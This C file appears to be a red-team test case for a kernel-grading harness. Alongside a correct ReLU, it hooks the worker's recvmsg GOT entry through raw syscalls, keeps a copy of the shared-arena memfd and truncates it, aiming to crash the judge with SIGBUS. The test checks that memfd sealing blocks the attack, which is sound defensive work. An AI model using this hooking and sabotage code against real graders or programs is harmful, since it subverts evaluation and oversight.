// kjudge-case: task=level1/relu expect=pass
/* Red team, class 21 (shrinking the shared arena): the worker receives the
 * arena's memfd by SCM_RIGHTS in an ARENA message, maps it and closes it.
 * A constructor (inside the worker's dlopen) hooks kjudge-worker's
 * `recvmsg` GOT slot (found from the auxiliary vector, patched after a raw
 * mprotect) and keeps a raw dup of every descriptor that arrives.  At the
 * end of each call, after writing an honest answer, it truncates the kept
 * memfd to 0 bytes with a raw ftruncate.  On an unsealed memfd this
 * succeeds and every mapping of it, the judge's included, now lies past the
 * end of the file: the judge's next read of the arena (the input check
 * after this very reply) dies of SIGBUS, killing the judge and its run.
 * With the arena sealed (F_SEAL_SHRINK|F_SEAL_GROW|F_SEAL_SEAL) ftruncate
 * fails with EPERM and nothing happened: pass.  The case cannot fake a
 * success: a shrink that works ends the judge, and the header's pass fails. */
#include <elf.h>
#include <errno.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

extern char **environ;

static long sc(long n, long a, long b, long c, long d, long e, long f)
{
	long r;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	__asm__ volatile("syscall" : "=a"(r) : "0"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return r;
}

/* kjudge-worker's load address: AT_PHDR minus PT_PHDR's address */
static uintptr_t exe_base(void)
{
	char **e = environ;
	const Elf64_auxv_t *av;
	const Elf64_Phdr *ph = NULL;
	long n = 0;

	while (*e)
		e++;
	for (av = (const Elf64_auxv_t *)(e + 1); av->a_type != AT_NULL; av++) {
		if (av->a_type == AT_PHDR)
			ph = (const Elf64_Phdr *)av->a_un.a_val;
		if (av->a_type == AT_PHNUM)
			n = (long)av->a_un.a_val;
	}
	for (long i = 0; ph && i < n; i++)
		if (ph[i].p_type == PT_PHDR)
			return (uintptr_t)ph - ph[i].p_vaddr;
	return 0;
}

/* Points the worker's GOT slot for `name` at fn (any relocation table). */
static int got_hook(uintptr_t base, const char *name, void *fn)
{
	const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
	const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
	const Elf64_Dyn *dy = NULL;
	const Elf64_Sym *sym = NULL;
	const char *str = NULL;
	const Elf64_Rela *rel[2] = {NULL, NULL};
	size_t relsz[2] = {0, 0};

	for (int i = 0; i < eh->e_phnum; i++)
		if (ph[i].p_type == PT_DYNAMIC)
			dy = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
	for (; dy && dy->d_tag != DT_NULL; dy++) {
		uintptr_t a = dy->d_un.d_ptr < base ? base + dy->d_un.d_ptr : dy->d_un.d_ptr;
		switch (dy->d_tag) {
		case DT_SYMTAB: sym = (const Elf64_Sym *)a; break;
		case DT_STRTAB: str = (const char *)a; break;
		case DT_JMPREL: rel[0] = (const Elf64_Rela *)a; break;
		case DT_PLTRELSZ: relsz[0] = dy->d_un.d_val; break;
		case DT_RELA: rel[1] = (const Elf64_Rela *)a; break;
		case DT_RELASZ: relsz[1] = dy->d_un.d_val; break;
		}
	}
	for (int t = 0; t < 2 && sym && str; t++)
		for (size_t k = 0; rel[t] && k < relsz[t] / sizeof(Elf64_Rela); k++) {
			const Elf64_Rela *r = &rel[t][k];
			uint32_t ty = (uint32_t)ELF64_R_TYPE(r->r_info);
			void **slot = (void **)(base + r->r_offset);

			if ((ty != R_X86_64_JUMP_SLOT && ty != R_X86_64_GLOB_DAT) ||
			    strcmp(str + sym[ELF64_R_SYM(r->r_info)].st_name, name))
				continue;
			sc(10 /* mprotect */, (long)((uintptr_t)slot & ~(uintptr_t)0xfff), 0x1000, 3, 0, 0, 0);
			*slot = fn;
			return 1;
		}
	return 0;
}

static int kept = -1;

/* recvmsg(2) as glibc does it, keeping a copy of a passed descriptor */
static long hook_recvmsg(int fd, struct msghdr *mh, int flags)
{
	long r = sc(47 /* recvmsg */, fd, (long)mh, flags, 0, 0, 0);
	struct cmsghdr *cm;

	if (r < 0) {
		errno = (int)-r;
		return -1;
	}
	for (cm = CMSG_FIRSTHDR(mh); cm; cm = CMSG_NXTHDR(mh, cm))
		if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_RIGHTS) {
			int got;

			memcpy(&got, CMSG_DATA(cm), sizeof(got));
			if (kept >= 0)
				sc(3 /* close */, kept, 0, 0, 0, 0, 0);
			kept = (int)sc(32 /* dup */, got, 0, 0, 0, 0, 0);
		}
	return r;
}

__attribute__((constructor)) static void install(void)
{
	uintptr_t b = exe_base();

	if (!b || !got_hook(b, "recvmsg", (void *)hook_recvmsg))
		fprintf(stderr, "21: no recvmsg slot found\n");
}

void relu(const float *x, float *y, int64_t B, int64_t D)
{
	static int reported;
	long r;

	for (int64_t i = 0; i < B * D; i++)
		y[i] = x[i] > 0.0f ? x[i] : 0.0f;
	if (kept < 0)
		return;
	/* from here on the arena may be gone: no more touching x or y */
	r = sc(77 /* ftruncate */, kept, 0, 0, 0, 0, 0);
	if (!reported++)
		fprintf(stderr, "21: ftruncate(arena fd %d, 0) = %ld\n", kept, r);
}
